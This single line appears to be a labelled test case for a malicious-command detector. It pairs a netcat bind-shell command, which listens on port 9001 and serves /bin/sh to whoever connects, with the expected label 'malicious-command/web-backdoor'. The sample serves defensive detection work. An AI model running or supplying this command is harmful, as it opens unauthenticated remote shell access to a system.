nc -l -p 9001 -e /bin/sh # expect: malicious-command/web-backdoor
